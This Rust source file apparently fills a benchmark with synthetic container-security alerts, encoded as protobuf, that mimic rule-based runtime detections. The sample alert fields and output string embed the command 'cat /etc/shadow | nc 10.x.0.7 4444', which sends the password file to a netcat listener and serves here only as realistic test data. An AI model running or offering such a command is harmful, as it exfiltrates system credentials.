//! Alerts as a fleet's sensors raise them: varied rules, hosts and fields, of about 800 bytes.

use cadge_proto::raw::RawAlert;
use cadge_proto::{Alert, Priority};
use prost::Message as _;
use prost::encoding::{WireType, encode_key, encode_varint};

/// Different alerts of one sensor.
const KINDS: u64 = 32;

/// The number of `Alert::sequence`, which is the last field.
const SEQUENCE: u32 = 18;

const RULES: [(&str, Priority); 4] = [
    ("Terminal shell in container", Priority::Notice),
    ("Read sensitive file untrusted", Priority::Warning),
    ("Drop and execute new binary in container", Priority::Critical),
    ("Contact K8S API Server From Container", Priority::Notice),
];

/// What a sensor sends again and again, with another sequence number each time.
pub(crate) struct Alerts(Vec<Vec<u8>>);

impl Alerts {
    pub(crate) fn of(sensor: &str) -> Self {
        Self((0..KINDS).map(|kind| alert(sensor, kind).encode_to_vec()).collect())
    }

    /// One of them. To encode it whole would cost more than what is measured.
    pub(crate) fn get(&self, sequence: u64) -> RawAlert {
        let kind = usize::try_from(sequence % KINDS).unwrap();
        let mut bytes = Vec::with_capacity(self.0[kind].len() + 16);
        bytes.extend_from_slice(&self.0[kind]);
        encode_key(SEQUENCE, WireType::Varint, &mut bytes);
        encode_varint(sequence, &mut bytes);
        RawAlert::new(bytes)
    }
}

/// An alert without a sequence number.
pub(crate) fn alert(sensor: &str, kind: u64) -> Alert {
    let (rule, priority) = RULES[usize::try_from(kind).unwrap() % RULES.len()];
    let process = ["bash", "curl", "python3.11", "nginx-worker"][usize::try_from(kind / 4).unwrap() % 4];
    let pod = format!("checkout-{:08x}-{kind:05}", kind.wrapping_mul(0x9e37_79b9) & 0xffff_ffff);
    let fields = [
        ("evt.time", "1700000000123456789".to_owned()),
        ("evt.type", "execve".to_owned()),
        ("user.name", "root".to_owned()),
        ("proc.name", process.to_owned()),
        ("proc.pname", "containerd-shim".to_owned()),
        ("proc.cmdline", format!("{process} -c cat /etc/shadow | nc 10.{kind}.0.7 4444")),
        ("container.id", format!("{:012x}", kind.wrapping_mul(0x0001_2345_6789))),
        ("container.image.repository", "registry.example.com/shop/checkout".to_owned()),
        ("k8s.ns.name", format!("shop-{}", kind % 7)),
        ("k8s.pod.name", pod.clone()),
    ];
    let output = format!(
        "12:34:56.123456789: {priority:?} {rule} (user=root process={process} parent=containerd-shim \
         command={process} -c cat /etc/shadow | nc 10.{kind}.0.7 4444 image=registry.example.com/shop/checkout pod={pod})"
    );
    Alert {
        time: Some(std::time::SystemTime::now().into()),
        priority: priority.into(),
        rule: rule.to_owned(),
        output,
        output_fields: fields.map(|(name, value)| (name.to_owned(), value)).into(),
        hostname: format!("node-{sensor}.eu-central-1.compute.internal"),
        tags: vec!["container".to_owned(), "maturity_stable".to_owned(), "mitre_execution".to_owned()],
        source: "syscall".to_owned(),
        sensor: sensor.to_owned(),
        epoch: 1,
        ..Alert::default()
    }
}

/// Bytes of an alert.
pub(crate) fn mean_bytes() -> usize {
    let alerts = Alerts::of("bench-1-1");
    let all = 1..=KINDS;
    all.map(|sequence| alerts.get(sequence).as_bytes().len()).sum::<usize>() / usize::try_from(KINDS).unwrap()
}
